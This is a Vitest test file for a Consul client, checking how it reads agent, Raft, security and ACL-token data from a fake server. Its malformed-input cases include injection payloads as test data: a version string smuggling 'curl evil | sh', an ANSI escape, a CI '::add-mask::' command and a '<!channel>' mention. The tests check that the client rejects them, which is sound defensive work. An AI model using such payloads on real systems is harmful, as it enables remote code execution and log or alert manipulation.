import { afterEach, describe, expect, it } from 'vitest';
import type { ConsulSettings } from '../../../src/lib/config/connection.js';
import { createConsul } from '../../../src/lib/consul/connect.js';
import { SECURITY_SETTINGS } from '../../../src/lib/model/server.js';
import type { Consul } from '../../../src/lib/ports.js';
import { type FakeServer, healthyLeader, json, type Routes, startFakeServer, text } from './fake-server.js';

const open: (FakeServer | Consul)[] = [];
const TOKEN = '5ec2e7a1-0000-0000-0000-000000000000';

async function against(routes: Routes, more: Partial<ConsulSettings> = {}) {
  const server = await startFakeServer(routes);
  const timeouts = { connectMs: 2_000, readMs: 2_000, changeMs: 2_000, ...more.timeouts };
  const consul = createConsul({ scheme: 'http', port: server.port, ...more, timeouts });
  consul.giveTokenTo([server.address]);
  open.push(consul, server);
  return { consul, server, address: server.address };
}

afterEach(async () => {
  for (const each of open.splice(0)) await each.close();
});

describe('readAgent', () => {
  it('joins four responses', async () => {
    const { consul, address } = await against(healthyLeader());
    expect(await consul.readAgent(address, 'sentinel')).toEqual({
      kind: 'up',
      nodeId: '84066c1d-4fb4-11a0-dddf-503b5c7019e1',
      nodeName: 'n1',
      version: '1.8.7',
      leader: `${address}:8300`,
      peers: ['127.66.2.0:8300', `${address}:8300`],
      appliedIndex: 11,
      sentinel: 'seen',
      security: {},
    });
  });

  it.each<[string, Readonly<Record<string, string>>, number | undefined]>([
    ['bootstrap mode', { bootstrap: '1' }, 1],
    ['bootstrap_expect', { expect: '3' }, 3],
    ['neither', {}, undefined],
  ])('reads from the gossip tags: %s', async (_, tags, expected) => {
    const self = { ...Object(selfWithIndex('1')), Member: { Tags: { role: 'consul', ...tags } } };
    const { consul, address } = await against({ ...healthyLeader(), 'agent/self': json(self) });
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'up', bootstrapExpect: expected });
  });

  it.each([
    ['Voter', true],
    ['Nonvoter', false],
    [undefined, undefined],
  ])('reads from its own Raft configuration whether it votes: %s', async (suffrage, votes) => {
    const self = Object(selfWithIndex('1'));
    const servers = `[{Suffrage:Voter ID:other Address:127.66.2.0:8300} {Suffrage:${suffrage} ID:${self.Config.NodeID} Address:127.66.2.1:8300}]`;
    const raft = { ...self.Stats.raft, ...(suffrage && { latest_configuration: servers }) };
    const { consul, address } = await against({
      ...healthyLeader(),
      'agent/self': json({ ...self, Stats: { ...self.Stats, raft } }),
    });
    const agent = await consul.readAgent(address, 'sentinel');
    expect(agent.kind === 'up' && agent.votes).toBe(votes);
  });

  it.each([
    ['alive', 1, undefined],
    ['leaving', 2, true],
    ['left', 3, true],
    ['failed', 4, undefined],
  ])('reads its own status in gossip: %s', async (_, Status, isLeaving) => {
    const self = { ...Object(selfWithIndex('1')), Member: { Tags: { role: 'consul' }, Status } };
    const { consul, address } = await against({ ...healthyLeader(), 'agent/self': json(self) });
    const agent = await consul.readAgent(address, 'sentinel');
    expect(agent.kind === 'up' && agent.isLeaving).toBe(isLeaving);
  });

  it.each<[string, object, number | undefined]>([
    ['the longer of two', { ConsulRaftElectionTimeout: '5s', ConsulRaftHeartbeatTimeout: '10s' }, 10_000],
    ['those of raft_multiplier = 1', { ConsulRaftElectionTimeout: '1s', ConsulRaftHeartbeatTimeout: '1s' }, 1_000],
    ['a version that does not tell', {}, undefined],
    ['one that tells otherwise', { ConsulRaftElectionTimeout: 5 }, undefined],
  ])('reads the Raft timeouts: %s', async (_, DebugConfig, expected) => {
    const self = { ...Object(selfWithIndex('1')), DebugConfig };
    const { consul, address } = await against({ ...healthyLeader(), 'agent/self': json(self) });
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'up', raftTimeoutMs: expected });
  });

  const verified = { VerifyIncoming: true, VerifyOutgoing: true, VerifyServerHostname: true };
  const unverified = { VerifyIncoming: false, VerifyOutgoing: false, VerifyServerHostname: false };
  const policy = { ACLDefaultPolicy: 'deny' };
  const gossip = (value: boolean) => ({ EncryptVerifyIncoming: value, EncryptVerifyOutgoing: value });
  const all = (value: boolean) => Object.fromEntries(SECURITY_SETTINGS.map((setting) => [setting, value]));
  it.each<[string, object, string, object]>([
    ['1.8.7', { ACLsEnabled: true, ...policy, ...verified, ...gossip(true), HTTPSPort: 8501 }, 'true', all(true)],
    [
      '1.8.7, RPC only',
      { ...unverified, VerifyIncomingRPC: true, VerifyIncomingHTTPS: false, HTTPSPort: 8501, ...gossip(true) },
      'false',
      { encrypt: false, encrypt_verify_incoming: undefined, verify_incoming: true, verify_incoming_https: false },
    ],
    [
      '1.8.7, HTTPS only',
      { ...unverified, VerifyIncomingHTTPS: true, HTTPSPort: 1 },
      '',
      { verify_incoming_https: true },
    ],
    ['1.8.7, without HTTPS', { ...unverified, HTTPSPort: -1 }, '', { verify_incoming_https: undefined }],
    [
      '1.8.7, gossip not verified',
      { ...unverified, ...gossip(false) },
      'true',
      { encrypt: true, encrypt_verify_incoming: false, encrypt_verify_outgoing: false },
    ],
    [
      '1.23.0, gossip not verified',
      { StaticRuntimeConfig: gossip(false), TLS: { InternalRPC: verified } },
      'true',
      { encrypt: true, encrypt_verify_incoming: false, encrypt_verify_outgoing: false },
    ],
    [
      '1.14.11',
      {
        ...{ ACLsEnabled: true, ACLResolverSettings: policy, StaticRuntimeConfig: gossip(true), HTTPSPort: 8501 },
        TLS: { InternalRPC: verified, HTTPS: unverified },
      },
      'true',
      { ...all(true), verify_incoming_https: false },
    ],
    ['1.14.11, nothing', { ACLsEnabled: false, TLS: { InternalRPC: unverified } }, 'false', { verify_incoming: false }],
    ['a later one, in another form', { ACLsEnabled: 'yes', TLS: [] }, 'true', { encrypt: true }],
  ])('reads which protections are on, as in Consul %s', async (_, DebugConfig, encrypted, expected) => {
    const known = Object(selfWithIndex('1'));
    const self = { ...known, DebugConfig, Stats: { ...known.Stats, serf_lan: { encrypted } } };
    const { consul, address } = await against({ ...healthyLeader(), 'agent/self': json(self) });
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'up', security: expected });
  });

  it('reads what a server says without a token that it refuses', async () => {
    const refused = { 'agent/self': text('ACL not found', 403) };
    const { consul, address } = await against({
      ...healthyLeader(),
      ...refused,
      'status/leader': json('127.1.1.1:8300'),
    });
    const claims = { leader: '127.1.1.1:8300', peers: ['127.66.2.0:8300', `${address}:8300`] };
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'down', why: 'broken', ...claims });
    expect(await consul.readClaims(address)).toEqual(claims);
  });

  it('reads a server that has joined nothing', async () => {
    const routes = { ...healthyLeader(), 'status/leader': json(''), 'status/peers': json(null) };
    const { consul, address } = await against({ ...routes, 'kv/sentinel': () => {} });
    const agent = await consul.readAgent(address, 'sentinel');
    expect(agent).toMatchObject({ kind: 'up', leader: '', peers: [], sentinel: undefined });
  });

  it.each<[string, Routes]>([
    ['says that it cannot', { 'kv/sentinel': text('No cluster leader', 500) }],
    ['does not say', { 'kv/sentinel': () => {} }],
  ])('is up without a sentinel when it cannot read its store and %s', async (_, odd) => {
    const { consul, address } = await against({ ...healthyLeader(), ...odd }, { timeouts: { readMs: 1_000 } });
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'up', sentinel: undefined });
  });

  it.each<[string, Routes]>([
    ['half a body', { 'agent/self': text('{"Config":{"NodeID":"84066c1d"') }],
    ['a body of another shape', { 'agent/self': json({ Config: { NodeID: 'x' } }) }],
    ['an index that is not a number', { 'agent/self': json(selfWithIndex('many')) }],
    ['an agent that is not a server', { 'agent/self': json(selfWithIndex('1', false)) }],
    ['an HTML page', { 'status/leader': text('<html>hello</html>') }],
    ...(
      [
        ['Version', '1.8.7\nNext: curl evil | sh'],
        ['NodeName', 'n1\u001b[2J'],
        ['NodeName', 'n'.repeat(257)],
        ['NodeID', 'a b'],
      ] as const
    ).map(([field, value]): [string, Routes] => [
      `a ${field} ${JSON.stringify(value).slice(0, 20)}`,
      { 'agent/self': json(selfWithIndex('1', true, { [field]: value })) },
    ]),
    ['a leader that is not an address', { 'status/leader': json('x\n::add-mask::y') }],
    ['peers that are not addresses', { 'status/peers': json(['<!channel>']) }],
    ['peers that are no texts', { 'status/peers': json([1, 2]) }],
    ['an error', { 'agent/self': text('oops', 500) }],
    ['a value without an entry', { 'kv/sentinel': json([]) }],
    ['a body without end', { 'agent/self': (response) => endless(response) }],
    ['an answer cut short', { 'agent/self': (response) => cutShort(response) }],
  ])('is broken with %s', async (_, odd) => {
    const { consul, address } = await against({ ...healthyLeader(), ...odd }, { timeouts: { readMs: 5_000 } });
    const agent = await consul.readAgent(address, 'sentinel');
    expect(agent).toMatchObject({ kind: 'down', why: 'broken' });
  });

  it('is silent when one response is late', async () => {
    const { consul, address } = await against(
      { ...healthyLeader(), 'status/peers': () => {} },
      { timeouts: { readMs: 200 } },
    );
    const agent = await consul.readAgent(address, 'sentinel');
    expect(agent).toMatchObject({ kind: 'down', why: 'silent' });
  });

  it('is silent when the connection is cut, and refused when nothing listens', async () => {
    const { consul, server, address } = await against({
      ...healthyLeader(),
      'agent/self': (response) => response.socket?.destroy(),
    });
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'down', why: 'silent' });
    await server.close();
    expect(await consul.readAgent(address, 'sentinel')).toMatchObject({ kind: 'down', why: 'refused' });
  });
});

describe('an ACL token', () => {
  it('is sent in the header only, and not for what every client may ask', async () => {
    const { consul, server, address } = await against(healthyLeader(), { token: TOKEN });
    await consul.readAgent(address, 'sentinel');
    expect(server.seen).toHaveLength(4);
    for (const request of server.seen) {
      const isPublic = request.path.startsWith('status/');
      expect(request.headers['x-consul-token']).toBe(isPublic ? undefined : TOKEN);
      expect(request.path).not.toContain(TOKEN);
    }
  });

  it('without a rule is an error that names the rule', async () => {
    const denied = { ...healthyLeader(), 'agent/self': text('Permission denied', 403) };
    const { consul, address } = await against(denied, { token: TOKEN });
    const asked = consul.readAgent(address, 'sentinel');
    await expect(asked).rejects.toMatchObject({ code: 'acl-denied', message: expect.stringContaining('agent:read') });
    await expect(asked).rejects.not.toMatchObject({ message: expect.stringContaining(TOKEN) });
    const health = await against({
      ...healthyLeader(),
      'operator/autopilot/health': text('rpc error making call: Permission denied', 403),
    });
    await expect(health.consul.readLeader(address, { sentinel: 'sentinel', record: 'record' })).rejects.toMatchObject({
      message: expect.stringContaining('operator:read'),
    });
  });

  it('is wrong only if the leader refuses it, not a server that has not joined', async () => {
    const denied = { ...healthyLeader(), 'agent/self': text('ACL not found', 403) };
    const leader = await against(denied);
    await expect(leader.consul.readAgent(leader.address, 'sentinel')).rejects.toMatchObject({ code: 'acl-denied' });
    const joining = await against({ ...denied, 'status/leader': json('') });
    const agent = await joining.consul.readAgent(joining.address, 'sentinel');
    expect(agent).toMatchObject({ kind: 'down', why: 'broken' });
  });
});

it.each([
  ['its log ends with what it has applied', { last_log_index: '211' }, undefined],
  ['a snapshot has what its log ended before', { last_log_index: '17', last_snapshot_index: '211' }, undefined],
  ['it does not say where its log ends', {}, undefined],
  ['its log ends before what it has applied', { last_log_index: '17', last_snapshot_index: '0' }, true],
])('reads the end of the Raft log: %s', async (_, ends, isLogCut) => {
  const Config = { NodeID: 'a', NodeName: 'b', Version: '1.8.7', Server: true };
  const self = { Config, Stats: { raft: { applied_index: '211', commit_index: '211', ...ends } } };
  const { consul, address } = await against({ ...healthyLeader(), 'agent/self': json(self) });
  const agent = await consul.readAgent(address, 'sentinel');
  expect(agent.kind === 'up' && agent.isLogCut).toBe(isLogCut);
});

function selfWithIndex(applied_index: string, Server = true, over: object = {}): unknown {
  const Config = { NodeID: 'a', NodeName: 'b', Version: '1.8.7', Server, ...over };
  return { Config, Stats: { raft: { applied_index, commit_index: '1' } } };
}

function endless(response: Parameters<Routes[string]>[0]): void {
  const chunk = Buffer.alloc(1024 * 1024, ' ');
  const more = () => {
    while (!response.destroyed && response.write(chunk));
  };
  response.writeHead(200).on('drain', more);
  more();
}

function cutShort(response: Parameters<Routes[string]>[0]): void {
  response.writeHead(200, { 'content-length': '1000' }).write('{"Config":');
  setTimeout(() => response.socket?.destroy(), 20);
}
